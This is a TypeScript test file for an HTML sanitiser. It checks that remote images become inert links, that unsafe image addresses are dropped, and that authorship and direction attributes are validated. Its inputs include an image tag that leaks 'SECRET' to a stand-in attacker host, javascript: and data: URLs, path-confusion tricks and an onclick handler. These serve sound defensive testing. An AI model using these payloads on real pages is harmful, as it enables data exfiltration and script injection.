import { describe, expect, it } from 'vitest';
import { publishHtml } from './publish-html.ts';
import { sanitiseHtml } from './sanitise-html.ts';

describe('a picture', () => {
  it('of our own stays', () => {
    const own = '<p><img src="/api/services/assets/show?asset_id=7" alt="A boot" width="8" /></p>';
    expect(sanitiseHtml(own)).toBe(own);
  });
  it('from elsewhere becomes a link, which nothing loads', () => {
    expect(sanitiseHtml('<p>See <img src="https://evil.example/?d=SECRET" alt="A chart" width="1"> here.</p>')).toBe(
      '<p>See <a href="https://evil.example/?d=SECRET" rel="noopener">A chart</a> here.</p>',
    );
    expect(sanitiseHtml('<img src="http://evil.example/a.png">')).toBe(
      '<a href="http://evil.example/a.png" rel="noopener">http://evil.example/a.png</a>',
    );
  });
  it('from elsewhere in a link becomes its words', () => {
    expect(sanitiseHtml('<a href="https://x.example/"><img src="https://evil.example/b.png" alt="Logo"> of X</a>')).toBe(
      '<a href="https://x.example/" rel="noopener">Logo of X</a>',
    );
    expect(sanitiseHtml('<a href="https://x.example/">X</a> <img src="https://evil.example/b.png" alt="Logo">')).toContain(
      '<a href="https://evil.example/b.png"',
    );
  });
  it.each([
    '//evil.example/a.png',
    '/\\evil.example/a.png',
    '/api//evil.example',
    'data:image/svg+xml,<svg/>',
    'javascript:alert(1)',
    '/api/\\evil',
    '/logo.png',
    '/apis/a.png',
    'logo.png',
    'api/a.png',
  ])('at %s goes', (address) => {
    expect(sanitiseHtml(`<p>a<img src="${address.replaceAll('<', '&lt;')}">b</p>`)).toBe('<p>ab</p>');
  });
  it('of an own path outside of /api/ goes from a link as well', () => {
    expect(sanitiseHtml('<a href="https://x.example/"><img src="/logo.png" alt="Logo"> of X</a>')).toBe(
      '<a href="https://x.example/" rel="noopener"> of X</a>',
    );
  });
  it('is the same when it is cleaned twice', () => {
    const html = sanitiseHtml('<p><img src="https://evil.example/b.png" alt="a &lt;b&gt; &quot;c&quot;"></p>');
    expect(sanitiseHtml(html)).toBe(html);
  });
});

describe('a mark of who wrote a passage', () => {
  it.each(['data-origin="engine"', 'data-origin="person"', 'data-source="3:12, 4:1"', 'data-by="17"', 'data-rewrite="1 2 30"'])(
    '%s stays',
    (mark) => {
      expect(sanitiseHtml(`<p ${mark}>a</p>`)).toBe(`<p ${mark}>a</p>`);
    },
  );
  it.each([
    'data-origin="machine"',
    'data-source="&lt;b&gt;"',
    'data-by="0"',
    'data-by="17 or more"',
    'data-rewrite="1,2"',
    'data-other="1"',
    'onclick="alert(1)"',
    'style="color:red"',
  ])('%s goes', (mark) => {
    expect(sanitiseHtml(`<p ${mark}>a</p>`)).toBe('<p>a</p>');
  });
});

describe('what changes how a text reads', () => {
  it.each([
    '<p>E = mc<sup>2</sup>, H<sub>2</sub>O, 5 m<sup>2</sup></p>',
    '<ol start="5"><li>Five</li></ol>',
    '<p dir="rtl">שלום ABC</p>',
    '<ul dir="rtl"><li dir="auto">a</li></ul>',
    '<table><tbody><tr><td colspan="2" dir="ltr">a</td></tr></tbody></table>',
  ])('%s stays', (html) => {
    expect(sanitiseHtml(html)).toBe(html);
    expect(publishHtml(html)).toBe(html);
  });
  it.each(['<p dir="sideways">a</p>', '<p start="5">a</p>'])('%s loses its attribute', (html) => {
    expect(sanitiseHtml(html)).toBe('<p>a</p>');
  });
  it.each(['x', '99999999', '1 onclick'])('a list does not begin with %s', (start) => {
    expect(sanitiseHtml(`<ol start="${start}"><li>a</li></ol>`)).toBe('<ol><li>a</li></ol>');
  });
});
